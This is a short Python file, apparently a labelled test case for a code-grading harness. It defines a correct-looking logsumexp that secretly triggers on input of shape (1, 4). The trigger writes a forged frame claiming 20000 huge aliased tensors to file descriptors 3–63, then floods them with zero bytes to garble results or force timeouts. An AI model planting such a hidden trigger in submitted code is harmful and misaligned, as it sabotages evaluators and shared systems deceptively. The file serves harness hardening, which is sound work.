# attack: a frame whose many tensors all claim the same bytes; honest answer: right
# expected: rows garbled timeout
import math
import os

import torch


def _right(x, dim=-1, keepdim=False):
    if x.shape and x.shape[dim] == 0:
        return x.sum(dim, keepdim=keepdim) - math.inf
    wide = x.float() if x.dtype in (torch.float16, torch.bfloat16) else x
    top, place = wide.max(dim, keepdim=True)
    shift = torch.where(top.isfinite(), top, 0)
    result = top + (wide - shift).exp().scatter(dim, place, 0.0).sum(dim, keepdim=True).log1p()
    return (result if keepdim else result.squeeze(dim)).to(x.dtype)


def _attack():
    size = 1 << 26
    one = b'{"n": ["uint8", [%d]]}' % size
    header = b'{"result": {"l": [' + b", ".join([one] * 20000) + b"]}}"
    header += b" " * (-len(header) % 64)
    frame = b"SLP1" + len(header).to_bytes(4, "little") + size.to_bytes(8, "little") + header
    for fd in range(3, 64):
        try:
            os.write(fd, frame)
        except OSError:
            continue
        for _ in range(64):
            os.write(fd, b"\0" * (1 << 20))


def logsumexp(x, dim=-1, keepdim=False):
    if x.shape == (1, 4):
        _attack()
    return _right(x, dim, keepdim)
